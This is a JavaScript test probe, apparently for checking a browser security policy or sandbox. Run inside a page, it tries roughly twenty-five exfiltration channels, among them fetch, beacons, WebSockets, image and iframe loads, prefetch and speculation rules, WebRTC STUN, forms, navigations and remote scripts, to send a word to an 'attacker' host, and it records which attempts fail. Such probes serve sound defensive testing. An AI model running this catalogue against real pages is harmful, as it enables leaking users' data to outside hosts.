// Tries to get a word out of a page in every way that a script has, or in those alone that leave the page where it is: led away, a
// page may drop what it has just asked for. Run in the page.
async ({ attacker, word, stays = false }) => {
  const tried = [];
  const attempt = async (name, act) => {
    try {
      await Promise.race([Promise.resolve(act()), new Promise((resolve) => setTimeout(resolve, 300))]);
    } catch (error) {
      tried.push(`${name}: ${error.name}`);
    }
  };
  const added = (tag, attributes) => {
    const made = document.createElement(tag);
    for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
    document.body.append(made);
    return made;
  };
  for (const [where, base] of [["other", attacker], ["own", location.origin]]) {
    const url = (way) => `${base}/leak-${way}?name=${word}`;
    await attempt(`fetch ${where}`, () => fetch(url("fetch"), { mode: "no-cors" }));
    await attempt(`keepalive ${where}`, () => fetch(url("keepalive"), { method: "POST", body: word, keepalive: true, mode: "no-cors" }));
    await attempt(`xhr ${where}`, () => { const asked = new XMLHttpRequest(); asked.open("GET", url("xhr")); asked.send(); });
    await attempt(`socket ${where}`, () => new WebSocket(url("socket").replace("http", "ws")));
    await attempt(`events ${where}`, () => new EventSource(url("events")));
    await attempt(`beacon ${where}`, () => navigator.sendBeacon(url("beacon"), word));
    await attempt(`image ${where}`, () => { new Image().src = url("image"); });
    await attempt(`frame ${where}`, () => added("iframe", { src: url("frame") }));
    await attempt(`object ${where}`, () => added("object", { data: url("object") }));
    await attempt(`media ${where}`, () => added("video", { src: url("media") }));
    await attempt(`style ${where}`, () => added("link", { rel: "stylesheet", href: url("style") }));
    await attempt(`prefetch ${where}`, () => added("link", { rel: "prefetch", href: url("prefetch") }));
    await attempt(`preload ${where}`, () => added("link", { rel: "preload", as: "image", href: url("preload") }));
    await attempt(`prerender ${where}`, () => added("script", { type: "speculationrules" }).append(`{"prefetch":[{"source":"list","urls":["${url("rules")}"]}]}`));
    await attempt(`font ${where}`, () => new FontFace("x", `url(${url("font")})`).load());
    await attempt(`ping ${where}`, () => added("a", { href: "#here", ping: url("ping") }).click());
    if (!stays) await attempt(`form ${where}`, () => { const form = added("form", { action: url("form"), method: "post" }); form.append(added("input", { name: "n", value: word })); form.submit(); });
    await attempt(`import ${where}`, () => import(url("import")));
    await attempt(`worker ${where}`, () => new Worker(url("worker")));
  }
  if (stays) return tried;
  await attempt("open", () => window.open(`${attacker}/leak-open?name=${word}`));
  await attempt("assign", () => location.assign(`${attacker}/leak-assign?name=${word}`));
  await attempt("replace", () => location.replace(`${attacker}/leak-replace?name=${word}`));
  await attempt("link", () => added("a", { href: `${attacker}/leak-link?name=${word}` }).click());
  await attempt("download", () => added("a", { href: `${attacker}/leak-download?name=${word}`, download: "x" }).click());
  await attempt("refresh", () => added("meta", { "http-equiv": "refresh", content: `0;url=${attacker}/leak-refresh?name=${word}` }));
  await attempt("peer", () => new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(attacker).host}` }] }));
  await attempt("script", () => { const script = document.createElement("script"); script.src = `${attacker}/leak-script?name=${word}`; document.body.append(script); });
  await attempt("eval", () => { (0, eval)("1"); tried.push("eval ran"); });
  await attempt("markup", () => { document.body.innerHTML += "<b>x</b>"; tried.push("markup ran"); });
  return tried;
}
